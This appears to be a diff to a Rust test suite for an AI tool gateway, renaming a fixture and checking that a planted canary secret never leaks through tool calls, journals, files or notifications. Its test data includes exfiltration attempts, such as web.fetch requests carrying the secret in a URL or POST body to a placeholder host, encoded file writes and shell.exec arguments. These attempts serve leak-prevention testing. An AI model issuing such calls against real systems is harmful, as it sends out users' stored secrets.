@@ -1,6 +1,6 @@
 //! One secret sent down every path: it must come out of none.
 
-use super::builtin::Room;
+use super::builtin::ExternalTools;
 use base64::Engine as _;
 use conductor::doors::mcp::Shared;
 use conductor_core::error::{Code, Subject, ToolError};
@@ -67,12 +67,12 @@ async fn a_secret_comes_out_of_no_call() {
     let settings = || Settings { full_detail: true, ..Settings::default() };
     let files = "[tools.filesystem]\nroots = [{ name = \"studio\", path = \"STUDIO\", write = true }]\n";
     for known in [true, false] {
-        let room = Room::with(files, settings());
-        room.studio.studio.edit_catalog(|catalog| catalog.add(Tool::new(parrot()).unwrap()).unwrap());
+        let fixture = ExternalTools::with(files, settings());
+        fixture.studio.studio.edit_catalog(|catalog| catalog.add(Tool::new(parrot()).unwrap()).unwrap());
         if known {
-            room.secrets.set("bird", CANARY, vec![], true).unwrap();
+            fixture.secrets.set("bird", CANARY, vec![], true).unwrap();
         }
-        std::fs::write(room.path("note.txt"), format!("the word is {CANARY}\n")).unwrap();
+        std::fs::write(fixture.path("note.txt"), format!("the word is {CANARY}\n")).unwrap();
         let mut out = String::new();
         for (tool, arguments) in [
             ("parrot", json!({})),
@@ -92,7 +92,7 @@ async fn a_secret_comes_out_of_no_call() {
             ("web.fetch", json!({ "url": format!("https://x.example/?q={}", spellings(CANARY)[3]) })),
             ("shell.exec", json!({ "argv": [CANARY] })),
         ] {
-            let reply = room.studio.call(tool, arguments).await;
+            let reply = fixture.studio.call(tool, arguments).await;
             match reply.into_outcome() {
                 conductor_gateway::pipeline::Outcome::Done(Ok(output)) => {
                     out.push_str(&format!("{} {}\n", output.value, output.text()));
@@ -106,9 +106,9 @@ async fn a_secret_comes_out_of_no_call() {
                 }
             }
         }
-        let written = format!("{:?} {:?}", room.studio.journal.written(), room.studio.journal.events());
+        let written = format!("{:?} {:?}", fixture.studio.journal.written(), fixture.studio.journal.events());
         let mut home = String::new();
-        dump(room.studio.home.path(), &mut home);
+        dump(fixture.studio.home.path(), &mut home);
         let found = [leaks(&out), leaks(&written.replace("\\\"", "\"")), leaks(&home)];
         if known {
             assert_eq!(found, [const { Vec::<String>::new() }; 3], "{out}");
@@ -136,17 +136,18 @@ fn dump(folder: &std::path::Path, out: &mut String) {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn a_tool_with_an_effect_is_not_given_a_secret_in_any_spelling() {
-    let room = Room::new("[tools.filesystem]\nroots = [{ name = \"studio\", path = \"STUDIO\", write = true }]\n");
+    let fixture =
+        ExternalTools::new("[tools.filesystem]\nroots = [{ name = \"studio\", path = \"STUDIO\", write = true }]\n");
     let write = |content: &str| json!({ "path": "x", "content": content });
     let coded = |text: &str| {
         let content = base64::engine::general_purpose::STANDARD.encode(text);
         json!({ "path": "x", "content": content, "encoding": "base64" })
     };
     // Negative control: while it is no secret, a person is asked, and the file is written.
-    room.agreed("filesystem.write", write(CANARY)).await.unwrap();
-    assert_eq!(std::fs::read_to_string(room.path("x")).unwrap(), CANARY);
-    std::fs::remove_file(room.path("x")).unwrap();
-    room.secrets.set("bird", CANARY, vec![], true).unwrap();
+    fixture.agreed("filesystem.write", write(CANARY)).await.unwrap();
+    assert_eq!(std::fs::read_to_string(fixture.path("x")).unwrap(), CANARY);
+    std::fs::remove_file(fixture.path("x")).unwrap();
+    fixture.secrets.set("bird", CANARY, vec![], true).unwrap();
     let attempts = [
         ("filesystem.write", write(&format!("a {CANARY}"))),
         ("filesystem.write", coded(CANARY)),
@@ -158,13 +159,17 @@ async fn a_tool_with_an_effect_is_not_given_a_secret_in_any_spelling() {
         ("web.fetch", json!({ "url": "https://x.example/", "method": "POST", "body": spellings(CANARY)[2] })),
     ];
     for (tool, arguments) in attempts {
-        let refused = room.call(tool, arguments.clone()).await.unwrap_err();
+        let refused = fixture.call(tool, arguments.clone()).await.unwrap_err();
         assert_eq!(refused.code, Code::Denied, "{tool} {arguments}: nobody is asked either");
         assert!(refused.message.contains("stored secret"), "{refused:?}");
     }
-    assert!(!room.path("x").exists());
-    let asked =
-        room.studio.studio.desk.store().read(|pending| pending.iter().filter(|it| it.kind == Kind::Call).count());
+    assert!(!fixture.path("x").exists());
+    let asked = fixture
+        .studio
+        .studio
+        .approvals
+        .store()
+        .read(|pending| pending.iter().filter(|it| it.kind == Kind::Call).count());
     assert_eq!(asked, 1, "the question of the negative control alone");
 }
 
@@ -173,19 +178,19 @@ async fn a_tool_with_an_effect_is_not_given_a_secret_in_any_spelling() {
 #[tokio::test(flavor = "multi_thread")]
 async fn a_secret_comes_out_of_no_notification() {
     for known in [true, false] {
-        let room = Room::new("");
-        room.studio.studio.edit_catalog(|catalog| catalog.add(Tool::new(parrot()).unwrap()).unwrap());
+        let fixture = ExternalTools::new("");
+        fixture.studio.studio.edit_catalog(|catalog| catalog.add(Tool::new(parrot()).unwrap()).unwrap());
         if known {
-            room.secrets.set("bird", CANARY, vec![], true).unwrap();
+            fixture.secrets.set("bird", CANARY, vec![], true).unwrap();
         }
         let uri = format!("patch://{CANARY}");
-        let mut client = LineClient::connect(&Shared::new(&room.studio.studio));
+        let mut client = LineClient::connect(&Shared::new(&fixture.studio.studio));
         client.initialize().await;
         client.request("logging/setLevel", json!({ "level": "debug" })).await;
         client.request("resources/subscribe", json!({ "uri": uri })).await;
         let mut heard: BTreeMap<String, String> = BTreeMap::new();
         for how in ["say", "error", "panic"] {
-            room.studio.studio.hub.uri_changed(&uri);
+            fixture.studio.studio.events.uri_changed(&uri);
             let params = json!({ "name": "parrot", "arguments": { "how": how }, "_meta": { "progressToken": how } });
             let id = client.start("tools/call", params).await;
             loop {
